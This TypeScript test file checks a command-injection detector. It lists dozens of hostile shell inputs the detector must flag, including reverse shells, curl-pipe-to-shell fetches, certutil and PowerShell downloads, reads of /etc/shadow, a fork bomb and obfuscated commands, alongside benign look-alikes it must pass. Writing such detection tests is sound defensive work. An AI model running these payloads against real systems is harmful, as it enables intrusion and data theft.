import { describe, expect, it } from 'vitest';
import { assignmentAt, cmdi, detectExhaustive } from './index.js';
import { seededRandom } from '../../../test/helpers/seeded.js';

// Written for these tests (not taken from any corpus): each is a shell shape the detector must see.
const ATTACKS: string[] = [
  'report.pdf; whoami',
  'x;rmt-tar -f /dev/tcp/10.0.0.9/9',
  'x; lastlogin -u root',
  'cat /e[t]c/pas[s]wd',
  'x;tac /[e]tc/sha[d]ow',
  "x;trap 'nc 10.0.0.9 9 -e sh' EXIT",
  'report.pdf;uname -r',
  'x && id',
  'x || ls -al /var/www',
  '8.8.4.4 | nc 10.1.2.3 9001',
  'name`id`',
  'q=$(whoami)',
  'abc$(curl -s http://127.0.0.1:8081/a.sh|sh)',
  'file.txt\nwget http://127.0.0.1/x -O /tmp/x',
  'zz;w\'h\'o\'am\'i',
  'zz;c""at /etc/group',
  'zz;c\\at /etc/hostname',
  'zz;cat${IFS}/etc/group',
  'zz;cat$IFS/etc/group',
  'zz;wh$@oami',
  'zz;{cat,/etc/group}',
  'zz;/???/c?t /etc/group',
  'zz;/usr/bin/id',
  'cat /etc/group',
  '/bin/bash -c "uname -a"',
  'nc -e /bin/bash 127.0.0.1 4444',
  'python3 -c "import os;os.system(\'id\')"',
  'curl http://127.0.0.1:9/p.sh',
  'bash -i >& /dev/tcp/127.0.0.1/4242 0>&1',
  'a.jpg & ping -n 3 127.0.0.1',
  'a.jpg & type C:\\Windows\\win.ini',
  'a.jpg | %COMSPEC% /c dir',
  'a.jpg & c^m^d /c ver',
  'a.jpg & C:\\Windows\\System32\\cmd.exe /c whoami',
  'a.jpg; powershell -nop -w hidden -c "iex(1)"',
  'x;certutil -urlcache -f http://127.0.0.1/a.exe a.exe',
  'for /f "tokens=1" %a in (\'whoami\') do echo %a',
  '() { :; }; /bin/echo hi',
  'go(){ go|go& };go',
  '<(ls /tmp)',
  'time nc -lvp 8000',
  'IF EXIST C:\\temp\\x.txt del C:\\temp\\x.txt',
  'if %USERNAME%==admin echo yes',
  'x;{,uname}',
  'x;c{h,}mod 777 /tmp/f',
  'alias ll=rm',
  'wh${IFS}oami;${SHELL} -c id',
  'x;pi``ng -c 1 127.0.0.1',
  "x;$'whoami'",
];

const BENIGN: string[] = [
  'Tea; coffee; biscuits',
  'a trap for mice; cheese',
  'bridge the gap',
  'tickets; cmd-line tools; php-fpm tuning',
  'Tea; cat food; dog food',
  'a | b | c',
  '| Name | Type | Size |',
  'R&D',
  'Tom & Jerry',
  'AT&T and Q&A',
  'cat videos',
  'ls -la is a command that lists files',
  'Watch the find my phone tutorial',
  '# Heading\n\n- item one\n- item two\n\n**bold** and _italic_',
  'https://example.com/search?q=shoes&sort=price&page=2',
  'https://example.com/a?id=5&cat=3',
  'Price: $24.99 (was $30)',
  '{"id": 42, "name": "widget", "tags": ["a", "b"]}',
  'annual-report_2024.final.pdf',
  'C:\\Users\\alice\\Documents\\notes.txt',
  '/api/v1/items/42',
  'query Item($id: ID!) {\n  item(id: $id) {\n    id\n    name\n  }\n}',
  'Shoes & more | Example Store',
  'NC|NC|SC|TX',
  'O\'Brien said "hello"',
  'Time: 10:30; date: 2024-05-01',
  'echo chamber',
  'python tutorial for beginners',
  'Notes; id est laborum',
  '$(document).ready(init)',
  'if (a === b) { return c; }',
  'for (const x of list) { total += x; }',
  'user@example.com',
  'Size 8"x11"',
  'rm -rf node_modules is what I ran yesterday and it was fine',
  '5 * 3 = 15; 10 / 2 = 5',
  'Hello!\nHow are you?\nSee you soon.',
  '~/projects/demo',
];

describe('cmdi detector', () => {
  it.each(ATTACKS)('flags %j', (v) => {
    const d = cmdi.detect(v);
    expect(d, v).toBeDefined();
    expect(d!.detector).toBe('cmdi');
    expect(d!.confidence).toBeGreaterThan(0);
    expect(d!.confidence).toBeLessThanOrEqual(1);
    expect(d!.fragment.length).toBeLessThanOrEqual(64);
  });

  it.each(BENIGN)('passes %j', (v) => {
    expect(cmdi.detect(v)).toBeUndefined();
  });

  it('ranks a separator and a command above a bare command line', () => {
    expect(cmdi.detect('x; cat /etc/group')!.confidence).toBeGreaterThan(cmdi.detect('cat /etc/group')!.confidence);
  });

  it('names the technique', () => {
    expect(cmdi.detect('x;id')!.reason).toBe('command-chain');
    expect(cmdi.detect('x`id`')!.reason).toBe('command-substitution');
    expect(cmdi.detect("x;w'h'oami")!.reason).toBe('obfuscated-command');
    expect(cmdi.detect('cat /etc/group')!.reason).toBe('shell-command');
  });

  it('finishes on adversarial 8 KB inputs', () => {
    for (const unit of ['if ', '{,', '$(', '; ', 'for %a in (', '() {', '/???/', '\\', "'", 'a=b ', '&&', '/[', '/[e/]']) {
      expect(cmdi.detect(unit.repeat(Math.ceil(8192 / unit.length)))).toSatisfy((d) => d === undefined || d.detector === 'cmdi');
    }
  });

  it('scans only the ends of a 1 MB value', () => {
    const filler = 'lorem ipsum dolor sit amet '.repeat(40_000);
    expect(cmdi.detect(`${filler}; whoami`)).toBeDefined(); // the tail is scanned
    expect(cmdi.detect(`${filler.slice(0, 500_000)}; whoami ${filler.slice(0, 500_000)}`)).toBeUndefined(); // the middle is not
    expect(cmdi.detect('a;'.repeat(500_000))).toBeUndefined();
  });
  it('the character gates never hide a finding (differential test against the exhaustive path)', () => {
    // Seeded mix of shell syntax (separators, quoting, expansions, globs, paths, batch words),
    // command names and prose: detect() may only skip sub-checks that could not have fired.
    const pieces = [
      ';', '|', '||', '&', '&&', '`', '$(', ')', '<(', '{', '}', ',', '\n', '\r', '\t', "'", '"', '\\', '^', '%', '%COMSPEC%',
      '$IFS', '${IFS}', '$@', '$u', '${x:-a}', '$[1+2]', '~+', '!-1', '=', 'a=b', '-', '-la', '/', './', '?', '*', '[a]', '/???/',
      'c?t', '/etc/group', '/bin/', '/usr/bin/', 'c:\\', 'cmd.exe', '/c', 'cmd/c', 'if', 'IF', 'exist', '==', 'equ', 'for', '%a',
      'in', 'do', '()', '() {', 'alias', 'id', 'ls', 'cat', 'whoami', 'uname', 'nc', 'wget', 'curl', 'sh', 'python3', 'ping', 'echo',
      'time', 'nohup', 'iex(', 'ansible-vault', 'get-content', 'type', 'netstat', 'ifconfig', 'the', 'food', 'notes', 'is', 'and', 'Tea',
      'KBD-0075', 'usb-c', '42', '10.0.0.1', 'example.com', '.', ':', '#', '(', '\u00a0', '\u212a', 'é', '{,id}', 'f(){ f|f& };f',
      // Empty substitutions the views splice out of a word (`pi>()ng`).
      '$()', '<()', '>()', '``', 'pi', 'ng', 'who', 'ami',
      // What may end a first word (`type=1&…`, `id:`), and `%` spellings only one of which the cmd view rewrites.
      'type=1&b=2', 'id:', 'whoami=', 'ls%20-la', '%ComSpec%', '%comspec', '%25', 'https%3A%2F%2F',
    ];
    const rand = seededRandom(20261203);
    let fired = 0;
    for (let n = 0; n < 6000; n++) {
      const len = 1 + rand(6);
      const parts: string[] = [];
      for (let k = 0; k < len; k++) parts.push(pieces[rand(pieces.length)]!);
      const value = parts.join(rand(3) === 0 ? '' : ' ');
      const exhaustive = detectExhaustive(value);
      if (exhaustive) fired++;
      expect(cmdi.detect(value), value).toEqual(exhaustive);
    }
    for (const value of [...ATTACKS, ...BENIGN]) expect(cmdi.detect(value), value).toEqual(detectExhaustive(value));
    // The generator must reach the sub-checks, or the comparison proves nothing.
    expect(fired).toBeGreaterThan(1000);
  });

  it('reads an assignment by char code exactly as its regex does', () => {
    const ASSIGNMENT = /^[a-z_][a-z0-9_]*=[a-z0-9_./:-]*\s+/;
    const alphabet = ['a', 'z', 'A', '_', '0', '9', '=', '.', '/', ':', '-', ' ', '\t', '\n', '\u00a0', '\u3000', '&', ';', '$', 'é', 'x=y '];
    const rand = seededRandom(7);
    let matched = 0;
    for (let n = 0; n < 20_000; n++) {
      let s = '';
      const len = rand(80);
      for (let k = 0; k < len; k++) s += alphabet[rand(alphabet.length)];
      // Half the tries start on a name, where a match can begin.
      const at = rand(2) === 0 ? s.search(/[a-z_]/) : -1;
      const j = at >= 0 ? at : rand(Math.max(1, s.length));
      const expected = ASSIGNMENT.exec(s.slice(j, j + 64))?.[0].length ?? 0;
      if (expected > 0) matched++;
      expect(assignmentAt(s, j), JSON.stringify([s, j])).toBe(expected);
    }
    expect(matched).toBeGreaterThan(1000);
    expect(assignmentAt('&x=1 id', 1)).toBe(4);
  });

  it('reads runs of separators in linear time (work grows like the input, not its square)', () => {
    const least = (v: string): number => {
      let best = Infinity;
      for (let i = 0; i < 5; i++) {
        const t = performance.now();
        cmdi.detect(v);
        best = Math.min(best, performance.now() - t);
      }
      return best;
    };
    for (const run of ['\n', '\r', ' \n', ';\n', '|\n', '{', '\n{', '{ ', '/[', '/[e/', '/?/', ';$x', ';a=1', '&$a$b', '\r\nnoop ']) {
      // Both under the 2 × SCAN_LIMIT beyond which only the head and the tail are read.
      const small = `x;${run.repeat(1024 / run.length)}`;
      const large = `x;${run.repeat(8192 / run.length)}`;
      least(large);
      // Eight times the input: about eight times the work when linear, sixty-four when quadratic.
      // Measured again when over the bound: a loaded machine can skew one pair of timings, a
      // quadratic reading exceeds it every time.
      const ratio = (): number => least(large) / Math.max(least(small), 0.01);
      const first = ratio();
      expect(first < 24 ? first : Math.min(first, ratio()), JSON.stringify(run)).toBeLessThan(24);
    }
  });
});

// Each rule added for CRS 932 recall: attacks written for these tests, and benign look-alikes.
const at = (v: string): number | undefined => {
  const d = cmdi.detect(v);
  return d ? (d.paranoia ?? 1) : undefined;
};

describe('cmdi: globbed system paths', () => {
  it.each([
    'x;head /[e//]tc/gr[o]up', // a `/` inside a class is one more member, not a separator
    'more /[?]tc/host[?]', // a class holding a wildcard
    'x;ls /[v/]ar', // a bracketed root alone
  ])('flags %j at paranoia 1', (v) => expect(at(v)).toBe(1));
  it.each(['q=/et*/gro*', 'q=/???/?d'])('flags %j at paranoia 3 only', (v) => expect(at(v)).toBe(3));
  it.each(['/home/[username]/docs', 'See /???/ in the template', '/var/[id]', 'https://example.com/a?b=/c', 'Path: /api/items[0]/name', '/???'])(
    'passes %j',
    (v) => expect(cmdi.detect(v)).toBeUndefined(),
  );
});

describe('cmdi: expansions, PowerShell subexpressions, batch parameters, bin paths', () => {
  it.each([
    'q=x;iex (irm http://127.0.0.1:8081/p.ps1)', // a subexpression that runs a program
    'a;pwsh (curl 127.0.0.1)',
    '${:42:-ab}{lower:x}', // an empty-name default expansion
    'v=$((6*7))', // arithmetic expansion splices its result
    'x$(($() 3))y',
    'if /i not [%2] == [] goto end', // cmd parameters in a comparison
    'IF "%~n1"==""',
    '/usr/sbin/somed', // any program through a bin directory
    'x;/bin/xyzzy -q',
  ])('flags %j', (v) => expect(at(v)).toBe(1));
  it.each([
    '${BUNDLE_ID}', // an ad macro: a bare parameter is everyone's placeholder
    'Price: $5 (or $(4) in brackets)',
    'if (a == b) return',
    'if x == 1 then',
    '50% == half',
    'See /usr/bin for binaries',
    'Notes: /bin/ is a directory and this is a sentence',
    'iex is a stock symbol (listed)',
  ])('passes %j', (v) => expect(cmdi.detect(v)).toBeUndefined());
});

describe('cmdi: variables that spell or pad the command word', () => {
  it.each([
    'p=ncat&&$p -l 4444', // assigned, then run
    'd=/etc;f=/hosts;x=head;$x $d$f',
    'h=h;e=e;a=a;d=d;$h$e$a$d /etc/group',
    'q=wg[e]t;$q http://127.0.0.1/a',
    'x|$nothing curl 127.0.0.1', // an unset variable pads a strong command
  ])('flags %j at paranoia 1', (v) => expect(at(v)).toBe(1));
  it('flags a padded weak command at paranoia 2 only', () => expect(at('x;$pad tail notes.txt')).toBe(2));
  it.each(['total=5; $total is due', '$filter=name&$top=10', 'a=1&b=$c', 'cost=$5 & tax=$1', 'name=$NAME; echo chamber'])(
    'passes %j',
    (v) => expect(cmdi.detect(v)).toBeUndefined(),
  );
});

describe('cmdi: command lines at the start of a value', () => {
  it.each([
    'gawk --version', // a long option after a program name
    'tail --follow=name app.log',
    'ansible-vault\n', // a tool's name alone on a line that ends
    'uname;. ./x; and then a long sentence follows here to read', // chained at once, prose after
    'echo aWQ= | base64 -d | bash', // piped into a shell at the end
    'printf "id" | sh #',
    '{,uname,-a}', // brace expansion after an empty member, with arguments
    '{,tail,/etc/group,}',
    "{,$'id',}",
  ])('flags %j at paranoia 1', (v) => expect(at(v)).toBe(1));
  it.each(['ca``t notes.txt', 'ta"i"l x.log', 'he$()ad notes.txt'])('flags the spliced name %j at paranoia 2 only', (v) => expect(at(v)).toBe(2));
  it.each([
    'rock & roll', 'a; b and c in prose', 'cat food --- the best', 'Time -- a novel', 'ls as a word', 'Run ls to list the files, then cd into the folder',
    "it''s fine", 'O""Neil', '{a,b}', '{,}', '{"id":1,"x":[1,2]}', 'Bash | Shell scripting | Linux', 'Report.pdf\n',
  ])('passes %j', (v) => expect(cmdi.detect(v)).toBeUndefined());
});

describe('cmdi: mail protocol commands after a CRLF', () => {
  it.each([
    'hi\r\nRCPT TO:<ops@127.0.0.1>', // SMTP
    'x\r\nehlo relay.example.test',
    'x\r\nDELE 7', // POP3
    'x\r\nt9 UID FETCH 1:4 (FLAGS)', // IMAP
  ])('flags %j at paranoia 2', (v) => expect(at(v)).toBe(2));
  it.each(['x\r\nQUIT', 'x\r\nk7 LOGOUT', 'x\r\nb2 SEARCH UNSEEN'])('flags %j at paranoia 3 only', (v) => expect(at(v)).toBe(3));
  it.each([
    'Dear team,\r\nplease list 3 options\r\nthanks', 'Line one\r\nMail from: our office, not <here>?', 'Shopping:\r\n- eggs\r\n- milk', 'RCPT TO:<a@b.test> on the first line',
  ])('passes %j', (v) => expect(cmdi.detect(v)).toBeUndefined());
});
